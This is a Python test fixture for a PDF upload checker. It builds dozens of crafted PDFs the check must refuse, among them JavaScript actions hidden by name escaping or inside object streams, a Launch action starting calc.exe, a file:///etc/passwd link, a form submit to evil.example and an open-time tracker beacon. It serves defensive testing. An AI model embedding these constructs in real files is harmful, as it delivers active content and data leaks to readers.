"""Hand-made PDFs that the upload check must refuse, and a few it must accept.

:func:`raw_pdf` writes a classic PDF (header, numbered objects, a cross-reference table with
exact offsets, trailer) from object bodies, so each case holds exactly the syntax under test;
:func:`with_writer` edits a real sample with pypdf's writer (encryption, attachments).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Sequence
from io import BytesIO

from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from securebox_server.box.samples import sample_pdf

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
_TEXT = b"BT /F1 12 Tf 72 720 Td (Bonjour) Tj ET"
CONTENT = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_TEXT), _TEXT)


def raw_pdf(
    catalog_extra: bytes = b"",
    page: bytes = PAGE,
    extra: Sequence[bytes] = (),
    *,
    content: bytes = CONTENT,
    trailer_extra: bytes = b"",
    tail: bytes = b"",
) -> bytes:
    """A one-page PDF: objects 1 catalog, 2 pages, 3 page, 4 content, then ``extra`` (5...)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        content,
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out + tail)


def objstm_pdf(hidden: bytes, catalog_extra: bytes = b"") -> bytes:
    """Object 6 (``hidden``) compressed inside object stream 5, listed by an xref stream (7):
    the raw bytes never show its names, only a real parse does."""
    packed = b"6 0 " + hidden
    compressed = zlib.compress(packed)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE,
        CONTENT,
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(compressed)
        + compressed
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows += [struct.pack(">BIH", 2, 5, 0), struct.pack(">BIH", 1, xref, 0)]
    table = b"".join(rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def sample() -> bytes:
    return sample_pdf(title="Relevé de compte", lines=["Madame, Monsieur,", "Votre relevé."])


def with_writer(edit: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(sample())))
    edit(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypt(writer: PdfWriter) -> None:
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")


def _attach(writer: PdfWriter) -> None:
    writer.add_attachment("facture.xml", b"<facture/>")


def _js_names(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert('bonjour');"))


def _annotation(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    def edit(writer: PdfWriter) -> None:
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 30)]),
                NameObject("/A"): action,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return edit


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

# name -> (bytes, the reason expected)
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "encrypted": (lambda: with_writer(_encrypt), "encrypted"),
    "embedded file (pypdf attachment)": (lambda: with_writer(_attach), "embedded_files"),
    "JavaScript name tree (pypdf add_js)": (lambda: with_writer(_js_names), "javascript"),
    "JavaScript in a link annotation": (
        lambda: with_writer(_annotation(_action("/JavaScript", JS="app.alert(1)"))),
        "javascript",
    ),
    "javascript: URI in a link": (
        lambda: with_writer(_annotation(_action("/URI", URI="javascript:alert(1)"))),
        "active_content",
    ),
    "file: URI in a link": (
        lambda: with_writer(_annotation(_action("/URI", URI="file:///etc/passwd"))),
        "active_content",
    ),
    "SubmitForm in a link": (
        lambda: with_writer(_annotation(_action("/SubmitForm", F="https://evil.example"))),
        "active_content",
    ),
    "JavaScript OpenAction": (lambda: raw_pdf(b"/OpenAction 5 0 R", extra=[JS]), "javascript"),
    "JavaScript OpenAction, name escaped": (
        lambda: raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "javascript",
    ),
    "Launch OpenAction": (
        lambda: raw_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
        "launch_action",
    ),
    "URI OpenAction (a beacon on open)": (
        lambda: raw_pdf(b"/OpenAction << /S /URI /URI (https://tracker.example/open) >>"),
        "active_content",
    ),
    "page additional action": (
        lambda: raw_pdf(page=PAGE[:-2] + b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>"),
        "active_content",
    ),
    "JavaScript in a form field's /AA": (
        lambda: raw_pdf(
            b"/AcroForm << /Fields [5 0 R] >>",
            extra=[b"<< /FT /Tx /T (montant) /AA << /K 6 0 R >> >>", JS],
        ),
        "javascript",
    ),
    "XFA form": (
        lambda: raw_pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[CONTENT]),
        "active_content",
    ),
    "XFA form that needs rendering (indirect flag)": (
        lambda: raw_pdf(b"/AcroForm << /Fields [] /NeedsRendering 5 0 R >>", extra=[b"true"]),
        "active_content",
    ),
    "JavaScript with escaped names inside an object stream": (
        lambda: objstm_pdf(b"<< /S /J#61vaScript /J#53 (x) >>"),
        "javascript",
    ),
    "FileAttachment annotation": (
        lambda: raw_pdf(
            page=PAGE[:-2] + b"/Annots [<< /Type /Annot /Subtype /FileAttachment >>] >>"
        ),
        "embedded_files",
    ),
    "RichMedia annotation": (
        lambda: raw_pdf(page=PAGE[:-2] + b"/Annots [<< /Subtype /RichMedia >>] >>"),
        "active_content",
    ),
    "JavaScript in an unreferenced object": (lambda: raw_pdf(extra=[JS]), "javascript"),
    "JavaScript OpenAction inside an object stream": (
        lambda: objstm_pdf(JS, b"/OpenAction 6 0 R"),
        "javascript",
    ),
    "JavaScript unreferenced inside an object stream": (lambda: objstm_pdf(JS), "javascript"),
    "Launch inside an object stream": (
        lambda: objstm_pdf(b"<< /S /Launch /F (calc.exe) >>"),
        "launch_action",
    ),
    "JavaScript after %%EOF (outside the xref)": (
        lambda: raw_pdf(tail=b"99 0 obj << /S /JavaScript /JS (x) >> endobj\n%%EOF\n"),
        "javascript",
    ),
    "not a PDF": (lambda: b"<html><body>bonjour</body></html>", "not_pdf"),
    "polyglot with a prefix": (lambda: b"<html>" + sample(), "not_pdf"),
    "truncated": (lambda: sample()[: len(sample()) // 2], "malformed"),
    "truncated, an %%EOF appended": (
        lambda: sample()[: len(sample()) // 2] + b"\n%%EOF\n",
        "malformed",
    ),
    "short declared stream length": (
        lambda: raw_pdf(content=CONTENT.replace(b"/Length %d" % len(_TEXT), b"/Length 3")),
        "malformed",
    ),
    "huge declared stream length": (
        lambda: raw_pdf(
            content=CONTENT.replace(b"/Length %d" % len(_TEXT), b"/Length " + b"9" * 11)
        ),
        "too_complex",
    ),
    "deeply nested arrays": (
        lambda: raw_pdf(b"/Nested 5 0 R", extra=[b"[" * 50_000 + b"]" * 50_000]),
        "too_complex",
    ),
    "no page": (
        lambda: raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
        "malformed",
    ),
    "wrong xref offsets": (lambda: raw_pdf().replace(b"startxref\n", b"startxref\n1"), "malformed"),
}
